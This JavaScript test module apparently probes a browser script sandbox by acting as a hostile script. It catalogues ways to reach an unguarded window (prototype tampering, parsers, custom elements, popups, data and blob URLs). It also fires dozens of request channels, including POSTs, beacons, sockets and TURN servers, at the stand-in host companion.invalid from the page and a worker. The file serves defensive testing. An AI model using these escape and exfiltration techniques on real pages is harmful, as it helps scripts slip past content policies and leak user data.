// What a script that should never have got to run would try: every way out that we know, from the page and from a
// worker. The functions here are carried into the page as text, so that each stands for itself. docs/threats.md names
// the holes.

/** Ahead of the page's own scripts, as no attacker is: a policy of trusted types that makes workers from any text. */
export const ARMED = `
  window.armed = window.trustedTypes
    ? trustedTypes.createPolicy('attacker', { createScriptURL: (text) => text, createHTML: (text) => text })
    : null;
`;

/** Windows other than the page's own: every one found, with what it has that the page has not. */
export async function realms() {
  const html = 'http://www.w3.org/1999/xhtml';
  const wait = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  const put = (element) => document.body.appendChild(element);
  const make = (name) => put(document.createElement(name));
  const marked = (text) => (window.armed ? window.armed.createHTML(text) : text);
  const frames = () =>
    [...document.querySelectorAll('*')].filter((element) =>
      /^(i?frame|object|embed|portal|fencedframe)$/i.test(element.localName),
    );
  const parsed = (parse) => () => {
    const room = make('div');
    parse(room);
  };
  const url = (type, text) => URL.createObjectURL(new Blob([text], { type }));
  const ways = {
    'iframe': () => make('iframe'),
    'iframe in capitals': () => make('IFRAME'),
    'iframe by an object': () =>
      put(
        document.createElement({
          calls: 0,
          toString() {
            this.calls += 1;
            return this.calls > 1 ? 'iframe' : 'div';
          },
        }),
      ),
    'iframe with a name space': () => put(document.createElementNS(html, 'iframe')),
    'iframe with a prefix': () => put(document.createElementNS(html, 'x:iframe')),
    'iframe of another document': () => put(document.implementation.createHTMLDocument('').createElement('iframe')),
    'iframe as a document': () => put(document.implementation.createDocument(html, 'iframe', null).documentElement),
    'iframe of a new document': () => put(new Document().createElementNS(html, 'iframe')),
    'iframe with the guard disarmed': () => {
      for (const [owner, name] of [
        [RegExp.prototype, 'test'],
        [RegExp.prototype, 'exec'],
        [Function.prototype, 'apply'],
        [Function.prototype, 'call'],
      ]) {
        try {
          owner[name] = () => false;
        } catch (error) {
          /* it is fixed */
        }
      }
      make('iframe');
    },
    'iframe from the guard itself': () => {
      const apply = Function.prototype.apply;
      let native;
      try {
        Function.prototype.apply = function (...given) {
          native = native || this;
          return apply.call(this, ...given);
        };
      } catch (error) {
        /* it is fixed */
      }
      make('div');
      put(native.call(document, 'iframe'));
    },
    'iframe of a class': () => {
      class Frame extends HTMLIFrameElement {}
      customElements.define('attacking-frame', Frame, { extends: 'iframe' });
      put(new Frame());
    },
    'iframe of a class of its own register': () => {
      class Frame extends HTMLIFrameElement {}
      const register = new CustomElementRegistry();
      register.define('attacking-frame', Frame, { extends: 'iframe' });
      put(new Frame());
    },
    'srcdoc': () => {
      make('iframe').srcdoc = marked('<p>');
    },
    'blob': () => {
      make('iframe').src = url('text/html', '<script>parent.out = RTCPeerConnection</script>');
    },
    'data': () => {
      make('iframe').src = 'data:text/html,<script>new RTCPeerConnection()</script>';
    },
    'javascript address': () => {
      make('iframe').src = 'javascript:parent.out = RTCPeerConnection';
    },
    'frame': () => make('frameset').appendChild(document.createElement('frame')),
    'object': () => {
      make('object').data = url('text/html', '<p>');
    },
    'embed': () => {
      Object.assign(make('embed'), { type: 'text/html', src: url('text/html', '<p>') });
    },
    'portal': () => make('portal'),
    'fencedframe': () => make('fencedframe'),
    'innerHTML': parsed((room) => {
      room.innerHTML = marked('<iframe></iframe>');
    }),
    'outerHTML': parsed((room) => {
      room.outerHTML = marked('<iframe></iframe>');
    }),
    'insertAdjacentHTML': parsed((room) => room.insertAdjacentHTML('beforeend', marked('<iframe></iframe>'))),
    'setHTML': parsed((room) => room.setHTML('<iframe></iframe>', { sanitizer: { elements: ['iframe'] } })),
    'setHTMLUnsafe': parsed((room) => room.setHTMLUnsafe(marked('<iframe></iframe>'))),
    'innerHTML of a template': parsed((room) => {
      const template = document.createElement('template');
      template.innerHTML = marked('<iframe></iframe>');
      room.appendChild(template.content);
    }),
    'innerHTML of a shadow': parsed((room) => {
      room.attachShadow({ mode: 'open' }).innerHTML = marked('<iframe></iframe>');
    }),
    'innerHTML of SVG': parsed((room) => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      room.appendChild(svg).innerHTML = marked(
        '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml"></iframe></foreignObject>',
      );
    }),
    'fragment of a range': parsed((room) =>
      room.appendChild(document.createRange().createContextualFragment(marked('<iframe></iframe>'))),
    ),
    'DOMParser': parsed((room) =>
      room.appendChild(
        new DOMParser().parseFromString(marked('<iframe></iframe>'), 'text/html').querySelector('iframe'),
      ),
    ),
    'DOMParser of XML': parsed((room) =>
      room.appendChild(
        new DOMParser().parseFromString(marked(`<iframe xmlns="${html}"/>`), 'text/xml').documentElement,
      ),
    ),
    'parseHTMLUnsafe': parsed((room) =>
      room.appendChild(Document.parseHTMLUnsafe(marked('<iframe></iframe>')).querySelector('iframe')),
    ),
    'XSLT': parsed((room) => {
      const sheet = document.implementation.createDocument('', '', null);
      const template = sheet.appendChild(sheet.createElementNS('http://www.w3.org/1999/XSL/Transform', 'stylesheet'));
      template.setAttribute('version', '1.0');
      const rule = template.appendChild(sheet.createElementNS('http://www.w3.org/1999/XSL/Transform', 'template'));
      rule.setAttribute('match', '/');
      const made = rule.appendChild(sheet.createElementNS('http://www.w3.org/1999/XSL/Transform', 'element'));
      made.setAttribute('name', 'iframe');
      const processor = new XSLTProcessor();
      processor.importStylesheet(sheet);
      room.appendChild(processor.transformToFragment(sheet, document));
    }),
    'execCommand': parsed((room) => {
      room.contentEditable = 'true';
      room.focus();
      document.execCommand('insertHTML', false, marked('<iframe></iframe>'));
    }),
    'a document written by document.write': () =>
      document.implementation.createHTMLDocument('').write(marked('<iframe>')),
    'open': () => open('about:blank'),
    'open of a name': () => open('', 'attacked'),
    'open by its prototype': () => Window.prototype.open.call(window, 'about:blank'),
    'open by the document': () => document.open('about:blank', 'attacked', 'width=100'),
    "open by the document's prototype": () => Document.prototype.open.call(document, 'about:blank', 'attacked', ''),
    'showModalDialog': () => showModalDialog('about:blank'),
    'picture in picture': () => documentPictureInPicture.requestWindow(),
    'a link to a name': () => {
      const link = make('a');
      Object.assign(link, { href: 'about:blank', target: 'attacked', rel: 'opener' });
      link.click();
      return window.open && window.open('', 'attacked');
    },
    'shared worker': () =>
      new SharedWorker(
        window.armed ? window.armed.createScriptURL(url('text/javascript', '')) : url('text/javascript', ''),
      ),
    'redefined': () => {
      delete window.RTCPeerConnection;
      delete window.open;
      return open('about:blank');
    },
  };
  const windows = (found) => {
    const all = [found, ...Array.from({ length: window.length }, (_, index) => window[index])];
    for (const frame of frames()) {
      for (const name of ['contentWindow', 'contentDocument']) {
        const found = frame[name] || Reflect.get(Object.getPrototypeOf(frame), name, frame);
        all.push(found && found.defaultView ? found.defaultView : found);
      }
    }
    return all.filter((one) => one && one !== window && typeof one === 'object' && 'document' in one);
  };
  const reached = [];
  for (const [name, way] of Object.entries(ways)) {
    let found;
    try {
      found = way();
      if (found && typeof found.then === 'function') found = await Promise.race([found, wait(300)]);
    } catch (error) { /* closed */ }
    await wait(20);
    try {
      for (const other of windows(found)) {
        const channels = ['RTCPeerConnection', 'WebTransport', 'open'];
        reached.push(`${name}: ${channels.filter((channel) => typeof other[channel] === 'function').join(' ')}`);
        if (other === found && other.close) other.close();
      }
      if (found && found.port) reached.push(`${name}: a worker`);
    } catch (error) { reached.push(`${name}: ${error.message}`); }
    if (window.out) reached.push(`${name}: ran`);
    delete window.out;
    for (const frame of frames()) frame.remove();
  }
  const own = [
    'RTCPeerConnection', 'webkitRTCPeerConnection', 'mozRTCPeerConnection', 'WebTransport', 'SharedWorker', 'open',
  ];
  reached.push(
    ...own
      .filter((name) => typeof window[name] === 'function' || typeof Window.prototype[name] === 'function')
      .map((name) => `own ${name}`),
  );
  return { tried: Object.keys(ways).length, reached: [...new Set(reached)] };
}

/** Tries to ask a server `NAME.companion.invalid` in every way that names one, without leaving the page. */
export async function requests() {
  const to = (name, scheme = 'http') => `${scheme}://${name}.companion.invalid/${Math.random().toString(36).slice(2)}`;
  const head = (name, made) => document.head.appendChild(Object.assign(document.createElement(name), made));
  const body = (name, made) => document.body.appendChild(Object.assign(document.createElement(name), made));
  const style = (text) => head('style', { textContent: text });
  const link = (rel, more) => head('link', { rel, href: to(`link-${rel}`, 'https'), ...more });
  const svg = (name, attribute, address) => {
    const made = document.createElementNS('http://www.w3.org/2000/svg', name);
    made.setAttributeNS('http://www.w3.org/1999/xlink', 'href', address);
    made.setAttribute(attribute, address);
    document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg')).appendChild(made);
  };
  const script = (text) => {
    const address = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
    return window.armed ? window.armed.createScriptURL(address) : address;
  };
  const ways = {
    fetch: () => fetch(to('fetch')),
    'fetch without cors': () =>
      fetch(to('fetch-no-cors'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
    fetchLater: () => fetchLater(to('fetch-later', 'https'), { activateAfter: 0 }),
    XMLHttpRequest: () => {
      const asked = new XMLHttpRequest();
      asked.open('POST', to('xhr'));
      asked.send('x');
    },
    beacon: () => navigator.sendBeacon(to('beacon'), 'x'),
    WebSocket: () => new WebSocket(to('socket', 'ws')),
    WebSocketStream: () => new WebSocketStream(to('socket-stream', 'wss')),
    EventSource: () => new EventSource(to('events')),
    WebTransport: () => new WebTransport(to('transport', 'https')),
    import: () => import(to('import')),
    ping: () => {
      Object.assign(body('a', { ping: to('ping') }), { href: '#' }).click();
    },
    image: () => {
      new Image().src = to('image');
    },
    'image set': () => body('img', { srcset: `${to('srcset')} 2x`, attributionSrc: to('attribution', 'https') }),
    'image of a form': () => body('input', { type: 'image', src: to('input-image') }),
    audio: () => new Audio(to('audio')).load(),
    video: () => body('video', { poster: to('poster'), src: to('video'), preload: 'auto' }),
    track: () => {
      const video = body('video', {});
      Object.assign(video.appendChild(document.createElement('track')), {
        src: to('track'),
        default: true,
        kind: 'captions',
      });
    },
    background: () => body('table', {}).setAttribute('background', to('background')),
    script: () => head('script', { src: window.armed ? window.armed.createScriptURL(to('script')) : to('script') }),
    'rules of speculation': () =>
      head('script', {
        type: 'speculationrules',
        text: JSON.stringify({ prefetch: [{ source: 'list', urls: [to('speculation', 'https')] }] }),
      }),
    'style import': () => style(`@import "${to('style-import')}";`),
    'style image': () =>
      style(
        `body { background-image: url("${to('style-image')}"); list-style-image: url("${to('style-list')}"); ` +
          `cursor: url("${to('style-cursor')}"), auto; }`,
      ),
    'style of an element': () => {
      document.body.style.borderImageSource = `url("${to('style-border')}")`;
    },
    font: () => {
      style(`@font-face { font-family: x; src: url("${to('font')}"); } body { font-family: x; }`);
      document.body.offsetWidth;
    },
    'font by script': () => new FontFace('y', `url("${to('font-face')}")`).load(),
    'SVG image': () => svg('image', 'href', to('svg-image')),
    'SVG use': () => svg('use', 'href', `${to('svg-use')}#x`),
    'SVG script': () => svg('script', 'href', to('svg-script')),
    'SVG filter': () => svg('feImage', 'href', to('svg-filter')),
    'style mask': () => style(`html { mask: url("${to('mask')}#x"); filter: url("${to('filter')}#x"); }`),
    iframe: () => body('iframe', { src: to('iframe') }),
    object: () => body('object', { data: to('object') }),
    embed: () => body('embed', { src: to('embed') }),
    'worklet': () => CSS.paintWorklet.addModule(to('worklet')),
    'worklet of sound': () => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(to('sound-worklet')),
    worker: () => new Worker(window.armed ? window.armed.createScriptURL(to('worker')) : to('worker')),
    'worker of a module': () => new Worker(script(`import "${to('worker-module')}";`), { type: 'module' }),
    'service worker': () => navigator.serviceWorker.register(to('service-worker')),
    payment: () =>
      new PaymentRequest([{ supportedMethods: to('payment', 'https') }], {
        total: { label: 'x', amount: { currency: 'CNY', value: '1' } },
      }).canMakePayment(),
    identity: () =>
      navigator.credentials.get({ identity: { providers: [{ configURL: to('identity', 'https'), clientId: 'x' }] } }),
    notification: () => new Notification('x', { icon: to('notification') }),
    media: () => {
      navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: to('artwork') }] });
    },
    form: () => {
      const form = body('form', { action: to('form'), method: 'post' });
      form.submit();
    },
    'policy that reports': () =>
      head('meta', {
        httpEquiv: 'Content-Security-Policy-Report-Only',
        content: `default-src 'none'; report-uri ${to('report')}`,
      }),
    base: () => head('base', { href: to('base') }),
    'names looked up ahead': () => {
      head('meta', { httpEquiv: 'x-dns-prefetch-control', content: 'on' });
      body('a', { href: to('looked-up', 'https'), textContent: 'x' });
    },
    'icon of the page': () => {
      const icon = document.querySelector('link');
      Object.assign(icon, { rel: 'preconnect', href: to('own-icon', 'https') });
      document.head.appendChild(icon);
    },
    'RTCPeerConnection': () => {
      const peer = new RTCPeerConnection({
        iceServers: [{ urls: 'turn:rtc.companion.invalid?transport=tcp', username: 'x', credential: 'x' }],
      });
      peer.createDataChannel('x');
      return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    },
  };
  const relations = [
    'preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest',
    'subresource', 'import', 'next', 'search', 'compression-dictionary',
  ];
  for (const rel of relations) {
    ways[`link ${rel}`] = () => link(rel, { as: 'script' });
  }
  for (const way of Object.values(ways)) {
    try {
      const answer = way();
      if (answer && typeof answer.catch === 'function') answer.catch(() => {});
    } catch (error) { /* closed */ }
  }
  // The same from a worker, which is under the policy of the page that made it.
  const inside = (address) => `
    const ways = [
      () => fetch('http://worker-fetch.${address}/'),
      () => { const asked = new XMLHttpRequest(); asked.open('GET', 'http://worker-xhr.${address}/'); asked.send(); },
      () => new WebSocket('ws://worker-socket.${address}/'),
      () => new WebSocketStream('wss://worker-socket-stream.${address}/'),
      () => new EventSource('http://worker-events.${address}/'),
      () => new WebTransport('https://worker-transport.${address}/'),
      () => importScripts('http://worker-import.${address}/'),
      () => import('http://worker-dynamic-import.${address}/'),
      () => new Worker('http://worker-worker.${address}/'),
      () => new FontFace('x', 'url(http://worker-font.${address}/)').load(),
      () => navigator.sendBeacon('http://worker-beacon.${address}/'),
      () => new RTCPeerConnection({
        iceServers: [{ urls: 'turn:worker-rtc.${address}?transport=tcp', username: 'x', credential: 'x' }],
      }),
    ];
    for (const way of ways) {
      try { const answer = way(); if (answer && answer.catch) answer.catch(() => {}); } catch (error) { /* closed */ }
    }
    postMessage(ways.length);`;
  const worker = new Worker(script(inside('companion.invalid')));
  const fromWorker = await new Promise((resolve, reject) => {
    worker.onmessage = (event) => resolve(event.data);
    worker.onerror = () => reject(new Error('the worker did not run'));
    setTimeout(() => reject(new Error('the worker said nothing')), 10000);
  });
  await new Promise((resolve) => setTimeout(resolve, 2500));
  return { tried: Object.keys(ways).length, fromWorker };
}
